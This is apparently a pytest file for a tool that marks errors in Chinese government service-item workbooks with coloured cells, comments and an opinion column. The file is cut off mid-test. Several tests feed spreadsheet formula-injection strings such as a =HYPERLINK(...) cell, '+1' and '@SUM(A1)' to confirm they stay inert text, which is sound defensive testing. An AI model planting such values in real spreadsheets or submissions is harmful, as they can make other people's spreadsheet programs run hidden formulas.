"""The 标注版: the department's own workbook with offending cells filled and commented."""

from __future__ import annotations

import csv
import dataclasses
import re
import zipfile
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlwt
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.dimensions import ColumnDimension

from catalog_check.findings import Finding, finding
from catalog_check.reports import write_marked_copy
from catalog_check.reports.marked import OPINION_HEADER, SUMMARY_TITLE, opinion_text
from catalog_check.verdict import FileReview, ItemResult, file_status
from catalog_check.workbook import CellRange, Sheet, Workbook

try:
    from catalog_check.table import SheetLayout
except ImportError:  # table.py is being written; the reports only read these four fields

    @dataclass(frozen=True)
    class SheetLayout:  # type: ignore[no-redef]
        """Stand-in with the agreed fields of catalog_check.table.SheetLayout."""

        sheet: str
        header_rows: tuple[int, ...]
        columns: dict[str, int]
        kind: str


RED, YELLOW = "00FFC7CE", "00FFEB9C"
SHEET = "事项清单"
HEADER_TOP = ["序号", "事项名称", "事项类型", "实施部门", "设定依据", "办理时限", None, "跑动次数"]
HEADER_SUB = [None, None, None, None, None, "法定", "承诺", None]
COLUMNS = {"序号": 1, "事项名称": 2, "事项类型": 3, "实施部门": 4, "设定依据": 5,
           "法定办结时限": 6, "承诺办结时限": 7, "跑动次数": 8}
DATA = [
    [1, "保安服务公司设立许可", "行政许可", "浙江省公安厅", "《保安服务管理条例》第八条",
     "20个工作日", "10个工作日", 0],
    [2, "公章刻制业特种行业许可证核发", "行政许可", None,
     "《中华人民共和国行政许可法》第十二条", "20个工作日", "30个工作日", 1],
    [3, '=HYPERLINK("http://x","y")', "行政处罚", "浙江省公安厅", "根据有关规定", "无", "即办", 1],
    [4, "保安服务公司设立许可", "行政许可", "浙江省公安厅", "《保安服务管理条例》",
     "无", "即办", 0],
]
FIRST_DATA_ROW = 5
LAYOUT = SheetLayout(sheet=SHEET, header_rows=(3, 4), columns=COLUMNS, kind="items")


def _make_source(path: Path) -> None:
    """A realistic submission: title block, two-row header, a vertical merge, other sheets."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = SHEET
    ws["A1"] = "浙江省公安厅群众和企业到政府办事“最多跑一次”事项目录（第二批）"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:H1")
    ws["A2"] = "填报单位（盖章）：浙江省公安厅　填报人：张三　联系电话：0571-87280000"
    for col, (top, sub) in enumerate(zip(HEADER_TOP, HEADER_SUB, strict=True), 1):
        if top is not None:
            ws.cell(3, col, top).font = Font(bold=True, color="FF0000FF")
        if sub is not None:
            ws.cell(4, col, sub).font = Font(bold=True, color="FF0000FF")
    for col in (1, 2, 3, 4, 5, 8):
        ws.merge_cells(start_row=3, start_column=col, end_row=4, end_column=col)
    ws.merge_cells("F3:G3")
    for r, row in enumerate(DATA, FIRST_DATA_ROW):
        for c, value in enumerate(row, 1):
            if value is not None:
                cell = ws.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"  # a department's text cell, not a formula
    ws.merge_cells("D5:D6")  # 实施部门 merged down over two items
    ws["A10"] = "填表说明：跑动次数填写0或1。"
    ws.column_dimensions["B"].width = 30
    ws["E5"].font = Font(bold=True)
    other = wb.create_sheet("说明")
    other["A1"] = "本表由省公安厅法规处汇总"
    lists = wb.create_sheet("下拉")
    lists["A1"] = "行政许可"
    lists.sheet_state = "hidden"
    wb.save(path)


def _read(path: Path, fmt: str = "xlsx") -> Workbook:
    """The Workbook as the reader would return it (values, row numbers, merged ranges)."""
    with path.open("rb") as fh:  # a file object: openpyxl then ignores the extension
        wb = openpyxl.load_workbook(fh)
    sheets = []
    for ws in wb.worksheets:
        rows = [list(r) for r in ws.iter_rows(values_only=True)]
        merged = tuple(CellRange(m.min_row, m.min_col, m.max_row, m.max_col)
                       for m in ws.merged_cells.ranges)
        sheets.append(Sheet(ws.title, rows, list(range(1, len(rows) + 1)), merged,
                            hidden=ws.sheet_state != "visible"))
    return Workbook(path, fmt, tuple(sheets))


def _findings() -> tuple[Finding, ...]:
    name3 = DATA[2][1]
    return (
        finding("missing-value", sheet=SHEET, row=6, column="实施部门", cell="D6",
                item=DATA[1][1], shown=""),
        finding("promise-exceeds-legal", sheet=SHEET, row=6, column="承诺办结时限", cell="G6",
                item=DATA[1][1], value="30个工作日", promise="30个工作日", legal="20个工作日"),
        finding("ex-officio-item", sheet=SHEET, row=7, column="事项类型", cell="C7",
                item=name3, value="行政处罚"),
        finding("basis-no-citation", sheet=SHEET, row=7, column="设定依据", cell="E7",
                item=name3, value="根据有关规定"),
        finding("basis-no-article", sheet=SHEET, row=8, column="设定依据", cell="E8",
                item=DATA[3][1], value="《保安服务管理条例》"),
        finding("basis-unknown-law", sheet=SHEET, row=8, column="设定依据", cell="E8",
                item=DATA[3][1], title="保安服务管理条例", suggestion=""),
        finding("duplicate-item", sheet=SHEET, row=8, item=DATA[3][1], first_row=5),
        finding("late-submission", received="2017-03-11 09:30", deadline="2017-03-10"),
    )


def _review(findings: tuple[Finding, ...], *, path: str = "inbox/省公安厅-第二批.xlsx",
            sheet: str | None = SHEET) -> FileReview:
    items = []
    for r, row in enumerate(DATA, FIRST_DATA_ROW):
        mine = [f for f in findings if f.row == r]
        reasons = tuple(f.message for f in mine if f.severity == "error")
        notes = tuple(f.message for f in mine if f.severity != "error")
        items.append(ItemResult(sheet, r, row[1], None, "rejected" if reasons else "accepted",
                                type=row[2], department="浙江省公安厅",
                                reasons=reasons, notes=notes))
    return FileReview(path=path, sha256="0" * 64, format="xlsx",
                      status=file_status(items, findings), department="浙江省公安厅",
                      items=tuple(items), findings=findings,
                      received=datetime(2017, 3, 11, 9, 30), name="省公安厅-第二批.xlsx")


def _fills(ws: Any, rows: range, cols: range) -> dict[str, str]:
    return {ws.cell(r, c).coordinate: ws.cell(r, c).fill.fgColor.rgb
            for r in rows for c in cols if ws.cell(r, c).fill.fill_type == "solid"}


@pytest.fixture(name="marked")
def fixture_marked(tmp_path: Path) -> openpyxl.Workbook:
    """The marked copy of the realistic source with the hand-built findings."""
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "标注版.xlsx")
    assert out == tmp_path / "标注版.xlsx"
    return openpyxl.load_workbook(out)


def test_fills_exactly_the_offending_cells(marked: openpyxl.Workbook) -> None:
    """Red for an error, yellow for a warning, the worst wins; nothing else in the table."""
    ws = marked[SHEET]
    assert _fills(ws, range(1, 12), range(1, 9)) == {
        "D5": RED,  # D6 lies in the merge D5:D6: its anchor carries the mark
        "G6": RED,
        "C7": RED,
        "E7": RED,
        "E8": YELLOW,  # two warnings
        "B8": RED,  # duplicate-item has a row and no cell: the row's 事项名称
    }


def test_comments_list_every_finding_of_the_cell(marked: openpyxl.Workbook) -> None:
    """One comment per cell from 审核小组, one 【规则名称】message line per finding."""
    ws = marked[SHEET]
    findings = {f.cell or f"B{f.row}": f for f in _findings() if f.row}
    commented = {c.coordinate: c.comment for row in ws.iter_rows() for c in row if c.comment}
    assert set(commented) == {"D5", "G6", "C7", "E7", "E8", "B8"}
    assert all(c.author == "审核小组" for c in commented.values())
    assert commented["C7"].text == f"【依职权事项】{findings['C7'].message}"
    e8 = [f for f in _findings() if f.cell == "E8"]
    assert commented["E8"].text == "\n".join(
        ["【设定依据未列明条款】" + e8[0].message, "【设定依据法规无法识别】" + e8[1].message]
    )
    assert commented["D5"].text.startswith("【必填项为空】第6行「实施部门」：")
    assert commented["B8"].text.startswith(
        "【事项重复】第8行：事项「保安服务公司设立许可」与第5行重复")


def test_comment_boxes_are_sized_for_chinese_text(tmp_path: Path) -> None:
    """The comment box is wide, and taller for more text (openpyxl's default is 144 × 79 px)."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "m.xlsx")
    with zipfile.ZipFile(out) as z:
        vml = next(z.read(n).decode() for n in z.namelist() if n.endswith(".vml"))
    sizes = re.findall(r"width:(\d+)px;\s*height:(\d+)px", vml)
    assert len(sizes) == 6
    assert {int(w) for w, _ in sizes} == {340}
    assert min(int(h) for _, h in sizes) >= 54
    assert max(int(h) for _, h in sizes) > min(int(h) for _, h in sizes)


def test_opinion_column_after_the_table(marked: openpyxl.Workbook) -> None:
    """审核意见 heads the column after the last one, merged over both header rows, per row."""
    ws = marked[SHEET]
    assert ws["I3"].value == OPINION_HEADER
    assert "I3:I4" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["I3"].font.b is True
    assert ws["I3"].font.color.rgb == "FF0000FF"  # styled like the header
    review = _review(_findings())
    f = {x.cell or f"B{x.row}": x for x in _findings() if x.row}
    assert ws["I5"].value == "通过"
    assert ws["I6"].value == f"退回：\n1. {f['D6'].message}\n2. {f['G6'].message}"
    assert ws["I7"].value == f"退回：\n1. {f['C7'].message}\n2. {f['E7'].message}"
    e8 = [x.message for x in _findings() if x.cell == "E8"]
    assert ws["I8"].value == f"退回：{f['B8'].message}\n提示：\n1. {e8[0]}\n2. {e8[1]}"
    assert [ws.cell(r, 9).value for r in range(5, 9)] == [opinion_text(i) for i in review.items]
    assert ws["I10"].value is None  # the note below the table is no item


def test_opinion_column_keeps_helper_formulas_and_is_shown(tmp_path: Path) -> None:
    """A department's check formulas right of the table (showing "", so read as blank) stay;
    审核意见 goes past them, visible and 48 wide, though the department hid and grouped every
    unused column from there on (J:XFD)."""
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    ws = wb[SHEET]
    for r in range(5, 9):
        ws.cell(r, 9).value = f'=IF(COUNTIF(B:B,B{r})>1,"重复","")'
    ws.column_dimensions["J"] = ColumnDimension(ws, index="J", min=10, max=16384, width=12,
                                                hidden=True, outlineLevel=1)
    wb.save(source)
    read = _read(source)
    sheet = read.sheets[0]
    rows = [[None if j == 8 and isinstance(v, str) and v.startswith("=") else v
             for j, v in enumerate(row)] for row in sheet.rows]  # cached "" reads as blank
    read = dataclasses.replace(read, sheets=(dataclasses.replace(sheet, rows=rows),
                                             *read.sheets[1:]))
    out = write_marked_copy(source, read, [LAYOUT], _review(_findings()), tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)[SHEET]
    assert [ws.cell(r, 9).value for r in range(5, 9)] == [
        f'=IF(COUNTIF(B:B,B{r})>1,"重复","")' for r in range(5, 9)
    ]
    assert ws["J3"].value == OPINION_HEADER
    assert ws["J5"].value == "通过"
    dims = {(d.min, d.max): d for d in ws.column_dimensions.values()}
    assert (dims[10, 10].hidden, dims[10, 10].width) == (False, 48)
    assert (dims[11, 16384].hidden, dims[11, 16384].width) == (True, 12)


def test_an_item_whose_last_cell_is_merged_sideways_gets_its_opinion(tmp_path: Path) -> None:
    """H6:I6 (the item's last cell merged into the next column): 审核意见 goes past it, to J,
    on every row."""
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET].merge_cells("H6:I6")
    wb.save(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)[SHEET]
    assert ws["J3"].value == OPINION_HEADER
    assert [ws.cell(r, 10).value.split("：")[0] for r in range(5, 9)] == [
        "通过", "退回", "退回", "退回"
    ]


def test_an_item_rejected_on_another_sheet_links_to_that_cell(tmp_path: Path) -> None:
    """Rejected only for a certificate on another sheet: 审核结果 links to that cell, not to
    the item's own row, where nothing is marked."""
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    cert = finding("certificate-without-basis", sheet="说明", row=1, column="材料名称",
                   cell="A1", item=DATA[1][1], value="无犯罪记录证明")
    review = _review((cert,))
    items = tuple(dataclasses.replace(i, status="rejected", reasons=(cert.message,))
                  if i.row == 6 else i for i in review.items)
    review = dataclasses.replace(review, items=items, status="partial")
    out = write_marked_copy(source, _read(source), [LAYOUT], review, tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)[SUMMARY_TITLE]
    (cell,) = [c for row in ws.iter_rows() for c in row if c.hyperlink is not None]
    assert (cell.value, cell.hyperlink.location) == (6, "'说明'!A1")


def test_pictures_in_the_workbook_are_kept(tmp_path: Path) -> None:
    """A scanned seal pasted by the 填报单位（盖章） line stays where it was."""
    from io import BytesIO

    from openpyxl.drawing.image import Image as XlImage
    from PIL import Image

    png = BytesIO()
    Image.new("RGB", (40, 40), (200, 0, 0)).save(png, format="PNG")
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET].add_image(XlImage(BytesIO(png.getvalue())), "F2")
    wb.save(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)[SHEET]
    (image,) = ws._images
    assert (image.anchor._from.row, image.anchor._from.col) == (1, 5)  # F2, zero-based
    assert image._data() == png.getvalue()


def test_summary_sheet_first_with_file_findings_and_rejected_items(
    marked: openpyxl.Workbook,
) -> None:
    """审核结果 opens first: status, counts, the file-level finding, the rejected items."""
    assert marked.sheetnames[0] == SUMMARY_TITLE
    assert marked.active.title == SUMMARY_TITLE
    assert [ws.sheet_view.tabSelected for ws in marked.worksheets] == [True, False, False, False]
    ws = marked[SUMMARY_TITLE]
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    labels = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(3, 10)}
    assert labels["审核结论"] == "部分退回"
    assert labels["文件"] == "省公安厅-第二批.xlsx"  # as sent: no server path goes out
    assert "inbox/" not in str(list(labels.values()))
    assert labels["实施部门"] == "浙江省公安厅"
    assert labels["收到时间"] == "2017年3月11日 09:30"  # as the notice writes it
    assert labels["事项数"] == "共4项：通过1项，退回3项"
    # the late-submission 提示 is the auditors' (left out below): not counted for the clerk,
    # who would look for a yellow cell that is not there
    assert labels["问题数"] == "退回5个，提示2个，备注0个"
    late = next(f for f in _findings() if f.code == "late-submission")
    # the department's copy leaves the auditors' lateness out (审核报告 keeps it)
    assert not any(late.message in str(v) for v in cells)
    header = cells["退回原因"].row
    table = [[ws.cell(r, c).value for c in range(1, 5)] for r in range(header + 1, header + 4)]
    assert table == [[SHEET, 6, DATA[1][1], None], [SHEET, 7, DATA[2][1], None],
                     [SHEET, 8, DATA[3][1], None]]
    assert ws.cell(header + 1, 2).hyperlink.location == f"'{SHEET}'!A6"


def test_original_formatting_and_sheets_survive(marked: openpyxl.Workbook) -> None:
    """Bold cells, widths, merged title, other and hidden sheets are the department's own."""
    ws = marked[SHEET]
    assert ws["E5"].font.b is True
    assert ws["A1"].font.b is True
    assert ws.column_dimensions["B"].width == 30
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A1:H1", "F3:G3", "D5:D6"} <= merged
    assert marked.sheetnames == [SUMMARY_TITLE, SHEET, "说明", "下拉"]
    assert marked["说明"]["A1"].value == "本表由省公安厅法规处汇总"
    assert marked["下拉"].sheet_state == "hidden"
    assert ws["A10"].value == "填表说明：跑动次数填写0或1。"


def test_formula_like_values_stay_text(marked: openpyxl.Workbook) -> None:
    """A submitted =HYPERLINK(…) is text in the table and in the summary, never a formula."""
    ws = marked[SHEET]
    assert (ws["B7"].value, ws["B7"].data_type) == ('=HYPERLINK("http://x","y")', "s")
    assert ws["B7"].quotePrefix  # stays text when a person edits the cell
    summary = marked[SUMMARY_TITLE]
    hits = [c for row in summary.iter_rows() for c in row if c.value == DATA[2][1]]
    assert len(hits) == 1
    assert hits[0].data_type == "s"


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x","y")', "+1", "-1", "@SUM(A1)", "＝1"],
    ids=["hyperlink", "plus", "minus", "at", "fullwidth-equals"],
)
def test_rebuilt_copy_keeps_formula_like_text(tmp_path: Path, value: str) -> None:
    """In a copy rebuilt from a CSV every submitted string is stored as text, unchanged."""
    rows = [["事项名称", "事项类型", "实施部门", "设定依据"], [value, "行政许可", value, value]]
    read = Workbook(tmp_path / "a.csv", "csv", (Sheet("a", rows, [1, 2]),))
    layout = SheetLayout(sheet="a", header_rows=(1,),
                         columns={"事项名称": 1, "事项类型": 2, "实施部门": 3, "设定依据": 4},
                         kind="items")
    f = finding("unknown-department", row=2, column="实施部门", cell="C2", item=value, value=value)
    item = ItemResult(None, 2, value, None, "rejected", reasons=(f.message,))
    review = FileReview("a.csv", "1" * 64, "csv", "rejected", None, (item,), (f,))
    out = write_marked_copy(tmp_path / "a.csv", read, [layout], review, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb["a"]
    for coord in ("A2", "C2", "D2"):
        assert (ws[coord].value, ws[coord].data_type) == (value, "s")
    summary = [c for row in wb[SUMMARY_TITLE].iter_rows() for c in row if c.value == value]
    assert [c.data_type for c in summary] == ["s"]


def _write_xls(path: Path) -> None:
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("第二批")
    ws.write_merge(0, 0, 0, 3, "浙江省教育厅事项目录")
    for c, text in enumerate(["事项名称", "事项类型", "实施部门", "设定依据"]):
        ws.write(2, c, text)
    ws.write(3, 0, "教师资格认定")
    ws.write(3, 1, "行政许可")
    ws.write(3, 2, "浙江省教育厅")
    ws.write(3, 3, "《教师资格条例》第十三条")
    ws.write(5, 0, "民办学校办学许可")  # a blank row 5 between the items
    ws.write(5, 1, "行政处罚")
    ws.write(5, 2, "浙江省教育厅")
    ws.write(5, 3, "《中华人民共和国民办教育促进法》第十八条")
    book.add_sheet("空表")
    book.save(str(path))


def test_xls_source_gives_xlsx_with_cells_in_place(tmp_path: Path) -> None:
    """An .xls is rebuilt as .xlsx: same sheets, rows, columns, merged title; then marked."""
    source = tmp_path / "教育厅.xls"
    _write_xls(source)
    rows = [["浙江省教育厅事项目录", None, None, None], [],
            ["事项名称", "事项类型", "实施部门", "设定依据"],
            ["教师资格认定", "行政许可", "浙江省教育厅", "《教师资格条例》第十三条"], [],
            ["民办学校办学许可", "行政处罚", "浙江省教育厅",
             "《中华人民共和国民办教育促进法》第十八条"]]
    read = Workbook(source, "xls", (
        Sheet("第二批", rows, [1, 2, 3, 4, 5, 6], (CellRange(1, 1, 1, 4),)),
        Sheet("空表", [], []),
    ))
    layout = SheetLayout(sheet="第二批", header_rows=(3,),
                         columns={"事项名称": 1, "事项类型": 2, "实施部门": 3, "设定依据": 4},
                         kind="items")
    f = finding("ex-officio-item", sheet="第二批", row=6, column="事项类型", cell="B6",
                item="民办学校办学许可", value="行政处罚")
    items = (ItemResult("第二批", 4, "教师资格认定", None, "accepted"),
             ItemResult("第二批", 6, "民办学校办学许可", None, "rejected", reasons=(f.message,)))
    review = FileReview(str(source), "2" * 64, "xls", "partial", "浙江省教育厅", items, (f,))
    out = write_marked_copy(source, read, [layout], review, tmp_path / "教育厅-标注版.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [SUMMARY_TITLE, "第二批", "空表"]
    ws = wb["第二批"]
    for r, row in enumerate(rows, 1):
        for c, value in enumerate(row, 1):
            assert ws.cell(r, c).value == value, (r, c)
    assert "A1:D1" in {str(m) for m in ws.merged_cells.ranges}
    assert _fills(ws, range(1, 8), range(1, 5)) == {"B6": RED}
    assert ws["B6"].comment.text == f"【依职权事项】{f.message}"
    assert (ws["E3"].value, ws["E4"].value, ws["E6"].value) == (
        OPINION_HEADER, "通过", f"退回：{f.message}")
    assert ws.column_dimensions["D"].width > ws.column_dimensions["B"].width
    assert "原文件为 .xls 格式" in "".join(
        str(c.value) for row in wb[SUMMARY_TITLE].iter_rows() for c in row if c.value)


def test_csv_source_uses_line_numbers_and_first_sheet(tmp_path: Path) -> None:
    """CSV findings carry no sheet name; rows are line numbers (a quoted line break skips one)."""
    source = tmp_path / "住建厅.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["事项名称", "申请材料", "实施部门"])
        writer.writerow(["建筑业企业资质核准", "1. 申请表\n2. 其他材料", "浙江省住房和城乡建设厅"])
        writer.writerow(["房地产开发企业资质核定", "1. 申请表", "省建设厅"])
    rows = [["事项名称", "申请材料", "实施部门"],
            ["建筑业企业资质核准", "1. 申请表\n2. 其他材料", "浙江省住房和城乡建设厅"],
            ["房地产开发企业资质核定", "1. 申请表", "省建设厅"]]
    read = Workbook(source, "csv", (Sheet("住建厅", rows, [1, 2, 4]),))
    layout = SheetLayout(sheet="住建厅", header_rows=(1,),
                         columns={"事项名称": 1, "申请材料": 2, "实施部门": 3}, kind="items")
    f1 = finding("catch-all-material", row=2, column="申请材料", cell="B2",
                 item=rows[1][0], value="其他材料")
    f2 = finding("invalid-phone", row=4, column="实施部门", cell="C4", item=rows[2][0],
                 value="省建设厅")
    items = (ItemResult(None, 2, rows[1][0], None, "rejected", reasons=(f1.message,)),
             ItemResult(None, 4, rows[2][0], None, "accepted", notes=(f2.message,)))
    review = FileReview(str(source), "3" * 64, "csv", "partial", None, items, (f1, f2))
    out = write_marked_copy(source, read, [layout], review, tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)["住建厅"]
    assert ws["A4"].value == "房地产开发企业资质核定"
    assert ws["A3"].value is None
    assert ws["B2"].alignment.wrap_text is True
    assert _fills(ws, range(1, 6), range(1, 4)) == {"B2": RED, "C4": YELLOW}
    assert [ws.cell(r, 4).value for r in (1, 2, 4)] == [
        OPINION_HEADER, f"退回：{f1.message}", f"通过\n提示：{f2.message}"]
    # the summary says the rows are the file's lines, not that cells sit where a spreadsheet
    # program shows them (the second item shows on row 3 there)
    note = next(c.value for row in openpyxl.load_workbook(out)[SUMMARY_TITLE].iter_rows()
                for c in row if isinstance(c.value, str) and c.value.startswith("说明："))
    assert "行号为原文件的文本行号（单元格内有换行时，与表格软件中显示的行号不同）" in note
    assert "单元格位置与原表一致" not in note


def test_xlsx_named_xls_keeps_its_formatting(tmp_path: Path) -> None:
    """The bytes decide: an .xlsx saved under an .xls name is marked in place, not rebuilt."""
    source = tmp_path / "省公安厅.xls"
    _make_source(source)
    out = write_marked_copy(source, _read(source, "xlsx"), [LAYOUT], _review(_findings()),
                            tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(out)[SHEET]
    assert ws.column_dimensions["B"].width == 30
    assert ws["E5"].font.b is True


def test_unopenable_xlsx_is_rebuilt_from_what_was_read(tmp_path: Path) -> None:
    """When openpyxl cannot open the file the reader could, the copy is rebuilt, not lost."""
    good = tmp_path / "good.xlsx"
    _make_source(good)
    read = _read(good)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    out = write_marked_copy(broken, read, [LAYOUT], _review(_findings()), tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb[SHEET]
    assert ws["B5"].value == "保安服务公司设立许可"
    assert _fills(ws, range(1, 12), range(1, 9))["C7"] == RED
    assert ws["I3"].value == OPINION_HEADER


def test_department_comment_is_kept_below_ours(tmp_path: Path) -> None:
    """A comment the department wrote stays, after the review's own lines."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET]["C7"].comment = Comment("按省政府要求保留", "李四")
    wb.save(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "m.xlsx")
    text = openpyxl.load_workbook(out)[SHEET]["C7"].comment.text
    assert text.startswith("【依职权事项】")
    assert text.endswith("\n——原批注——\n按省政府要求保留")


def test_department_comment_survives_a_second_review(tmp_path: Path) -> None:
    """The department's comment kept below ours comes back when the marked copy is sent back
    and reviewed again: alone where the cell is fine now, below ours where it is not."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET]["C7"].comment = Comment("按省政府要求保留", "李四")
    wb[SHEET]["E7"].comment = Comment("依据待法规处确认", "李四")
    wb.save(source)
    first = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                              tmp_path / "first.xlsx")
    only = tuple(f for f in _findings() if f.cell == "C7")
    second = write_marked_copy(first, _read(first), [LAYOUT], _review(only),
                               tmp_path / "second.xlsx")
    ws = openpyxl.load_workbook(second)[SHEET]
    assert ws["C7"].comment.text.startswith("【依职权事项】")
    assert ws["C7"].comment.text.endswith("\n——原批注——\n按省政府要求保留")
    assert ws["C7"].comment.text.count("——原批注——") == 1
    assert ws["E7"].comment.text == "依据待法规处确认"


def test_a_department_sheet_named_like_our_summary_is_kept(tmp_path: Path) -> None:
    """A department's own items sheet called 审核结果, titled 审核结果, is its table: it stays,
    marked, and our summary takes another name."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET]["A1"] = SUMMARY_TITLE
    wb[SHEET].title = SUMMARY_TITLE
    wb.save(source)
    layout = dataclasses.replace(LAYOUT, sheet=SUMMARY_TITLE)
    findings = tuple(dataclasses.replace(f, sheet=SUMMARY_TITLE) if f.sheet else f
                     for f in _findings())
    review = _review(findings, sheet=SUMMARY_TITLE)
    out = write_marked_copy(source, _read(source), [layout], review, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [f"{SUMMARY_TITLE}(2)", SUMMARY_TITLE, "说明", "下拉"]
    assert wb[SUMMARY_TITLE]["I3"].value == OPINION_HEADER
    assert wb[SUMMARY_TITLE]["C7"].fill.fgColor.rgb == RED
    # reviewed again: our 审核结果(2) is replaced, not piled up
    again = write_marked_copy(out, _read(out), [layout], review, tmp_path / "m2.xlsx")
    assert openpyxl.load_workbook(again).sheetnames == wb.sheetnames


def test_resubmitted_marked_copy_is_marked_afresh(tmp_path: Path) -> None:
    """Marking a returned marked copy replaces our summary, column and comments, never doubles."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    first = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                              tmp_path / "first.xlsx")
    only = tuple(f for f in _findings() if f.cell == "C7")
    read = _read(first)
    second = write_marked_copy(first, read, [LAYOUT], _review(only), tmp_path / "second.xlsx")
    wb = openpyxl.load_workbook(second)
    assert wb.sheetnames == [SUMMARY_TITLE, SHEET, "说明", "下拉"]
    ws = wb[SHEET]
    assert ws["I3"].value == OPINION_HEADER
    assert ws["J3"].value is None
    assert _fills(ws, range(1, 12), range(1, 9)) == {"C7": RED}
    commented = [c.coordinate for row in ws.iter_rows() for c in row if c.comment]
    assert commented == ["C7"]
    assert ws["I6"].value == "通过"


def test_a_departments_answer_in_the_opinion_column_is_kept(tmp_path: Path) -> None:
    """The department answers in the 审核意见 cell of the copy it sends back (beside our
    opinion, or over it): the second copy keeps its words below ours, under ——部门说明——,
    and a third round keeps them once. It was wiped, and the auditors never saw it."""
    from catalog_check.reports.marked import NOTE_MARK

    source = tmp_path / "s.xlsx"
    _make_source(source)
    first = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                              tmp_path / "first.xlsx")
    wb = openpyxl.load_workbook(first)
    ws = wb[SHEET]
    assert ws["I7"].value.startswith("退回：")
    ws["I7"] = ws["I7"].value + "\n已与公安部门沟通，拟改为告知承诺"
    ws["I8"] = "该事项与第5行不同，请核"  # written over our opinion
    wb.save(first)
    only = tuple(f for f in _findings() if f.cell == "C7")
    second = write_marked_copy(first, _read(first), [LAYOUT], _review(only),
                               tmp_path / "second.xlsx")
    ws = openpyxl.load_workbook(second)[SHEET]
    assert ws["I7"].value == (
        f"退回：{only[0].message}\n{NOTE_MARK}\n已与公安部门沟通，拟改为告知承诺")
    assert ws["I8"].value == f"通过\n{NOTE_MARK}\n该事项与第5行不同，请核"
    assert ws["I6"].value == "通过"  # nothing of theirs: ours alone
    third = write_marked_copy(second, _read(second), [LAYOUT], _review(only),
                              tmp_path / "third.xlsx")
    assert openpyxl.load_workbook(third)[SHEET]["I8"].value == ws["I8"].value


@pytest.mark.parametrize(
    ("old", "kept"),
    [
        ("1. 已与消防部门沟通，证明材料拟取消", "1. 已与消防部门沟通，证明材料拟取消"),
        ("退回：\n1. 甲\n2. 乙\n1. 已沟通\n2. 已改", "1. 已沟通\n2. 已改"),
        ("说明：\n1. 已取消\n2. 已改", "说明：\n1. 已取消\n2. 已改"),
        ("退回：甲\n1. 已沟通", "1. 已沟通"),
        ("退回：\n1. 甲\n提示：\n1. 丙", ""),
        ("通过", ""),
    ],
    ids=["numbered-reply", "after-our-reasons", "own-heading", "after-one-reason", "ours-only",
         "passed"],
)
def test_a_departments_numbered_reply_is_its_own(old: str, kept: str) -> None:
    """Only our own blocks (a label, then its reasons numbered 1, 2 … in turn) are replaced:
    a department's reply numbered 1. 2. was taken for ours and dropped."""
    from catalog_check.reports.marked import department_note

    assert department_note(old) == kept


def _write_xlsm(path: Path, vba: Path) -> None:
    import xlsxwriter

    vba.write_bytes(b"\xd0\xcf\x11\xe0 stand-in macro project")
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet(SHEET)
    for c, text in enumerate(["事项名称", "事项类型", "实施部门", "设定依据"]):
        ws.write_string(0, c, text, book.add_format({"bold": True}))
    row = ["教师资格认定", "行政处罚", "浙江省教育厅", "《教师资格条例》第十三条"]
    for c, text in enumerate(row):
        ws.write_string(1, c, text)
    book.add_vba_project(str(vba))
    book.close()


@pytest.mark.parametrize(("keep_vba", "suffix"), [(True, ".xlsm"), (False, ".xlsx")],
                         ids=["keep-macros", "drop-macros"])
def test_xlsm_keeps_its_macros_as_xlsm(tmp_path: Path, keep_vba: bool, suffix: str) -> None:
    """An .xlsm is marked with its macros and saved as .xlsm, or as .xlsx without them."""
    source = tmp_path / "教育厅.xlsm"
